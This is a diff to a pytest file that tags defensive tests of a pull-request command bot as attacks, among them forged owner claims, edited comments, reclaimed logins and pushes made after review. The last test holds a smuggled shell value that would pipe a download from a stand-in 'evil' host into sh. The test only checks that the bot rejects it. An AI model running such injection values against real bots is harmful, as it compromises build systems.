@@ -27,6 +27,10 @@ def sha(scene: Scene) -> str:
     return sha
 
 
+@pytest.mark.attack(
+    "command_in_a_quote", family="bot", outcome="no command",
+    tries="Hides a command in a quotation, behind words or in a later line.",
+)  # fmt: skip
 @pytest.mark.parametrize(
     ("body", "expected"),
     [
@@ -112,6 +116,10 @@ def test_retry_while_it_is_played_is_seen(scene: Scene, sha: str) -> None:
     assert scene.world.reruns == []
 
 
+@pytest.mark.attack(
+    "retry_instead_of_approval", family="bot", outcome="declined",
+    tries="Asks for another try instead of waiting for a maintainer's approval.",
+)  # fmt: skip
 def test_retry_of_a_run_that_waits_for_approval_is_no_way_round_it(scene: Scene, sha: str) -> None:
     scene.world.runs[31].conclusion = "action_required"
 
@@ -144,6 +152,10 @@ def test_evaluate_dispatches_mains_own_workflow(scene: Scene, sha: str, level: s
 # Attacks
 
 
+@pytest.mark.attack(
+    "evaluate_by_anybody", family="bot", outcome="declined",
+    tries="Asks for a verified run without being a maintainer.",
+)  # fmt: skip
 @pytest.mark.parametrize("level", ["read", "none"])
 def test_attack_15_evaluate_by_anyone_is_declined(scene: Scene, sha: str, level: str) -> None:
     scene.world.permissions["alice"] = level
@@ -152,32 +164,56 @@ def test_attack_15_evaluate_by_anyone_is_declined(scene: Scene, sha: str, level:
     assert scene.world.dispatched == []
 
 
+@pytest.mark.attack(
+    "claimed_association", family="bot", outcome="GitHub is asked, and it is declined",
+    tries="Relies on an event that calls the commenter an owner.",
+)  # fmt: skip
 def test_attack_15_a_claimed_association_is_no_permission(scene: Scene, sha: str) -> None:
     """`author_association` in the payload says OWNER throughout these tests."""
     assert say(scene, f"/evaluate {sha}", EVE) == ["-1"]
     assert "GET /collaborators/eve/permission" in scene.standin.made()
 
 
+@pytest.mark.attack(
+    "retry_by_a_stranger", family="bot", outcome="declined",
+    tries="Asks for another try of somebody else's preview.",
+)  # fmt: skip
 def test_attack_15_retry_by_a_stranger_is_declined(scene: Scene, sha: str) -> None:
     assert say(scene, "/retry", EVE) == ["-1"]
     assert scene.world.reruns == []
 
 
+@pytest.mark.attack(
+    "command_by_who_took_the_login", family="people", outcome="declined",
+    tries="Registers a login that its author gave up, and commands the bot in the author's pull request.",
+)  # fmt: skip
 def test_attack_15_an_account_that_took_the_authors_login_is_a_stranger(scene: Scene, sha: str) -> None:
     assert say(scene, "/retry", ("alice", 999)) == ["-1"]
 
 
+@pytest.mark.attack(
+    "edited_comment", family="bot", outcome="no command",
+    tries="Edits an old comment of a maintainer into a command.",
+)  # fmt: skip
 def test_attack_15_an_edited_comment_is_no_command(scene: Scene, sha: str) -> None:
     assert say(scene, f"/evaluate {sha}", HOST, action="edited") == []
     assert scene.standin.calls == []
 
 
+@pytest.mark.attack(
+    "command_by_a_bot", family="bot", outcome="no command",
+    tries="Lets another bot, or an issue that is no pull request, command the bot.",
+)  # fmt: skip
 def test_attack_15_bots_and_plain_issues_are_ignored(scene: Scene, sha: str) -> None:
     assert say(scene, "/retry", (BOT, 41898282), kind="Bot") == []
     assert say(scene, "/retry", issue={"number": 7}) == []
     assert scene.standin.calls == []
 
 
+@pytest.mark.attack(
+    "push_after_the_review", family="bot", outcome="declined unless it names the commit",
+    tries="Pushes other code after a maintainer looked and before the command.",
+)  # fmt: skip
 def test_attack_5_evaluate_names_the_commit_that_was_looked_at(scene: Scene, sha: str) -> None:
     scene.bring(source=b"x = 'a later push'\n")
 
@@ -186,6 +222,10 @@ def test_attack_5_evaluate_names_the_commit_that_was_looked_at(scene: Scene, sha
     assert scene.world.dispatched == []
 
 
+@pytest.mark.attack(
+    "shell_in_a_command", family="bot", outcome="declined, never part of a request",
+    tries="Writes a shell command as the argument of the bot's command.",
+)  # fmt: skip
 def test_attack_8_what_was_typed_never_reaches_a_request(scene: Scene, sha: str) -> None:
     assert say(scene, "/evaluate ';curl${IFS}evil|sh;'", HOST) == ["-1"]
     assert "evil" not in "".join(map(repr, scene.standin.calls))
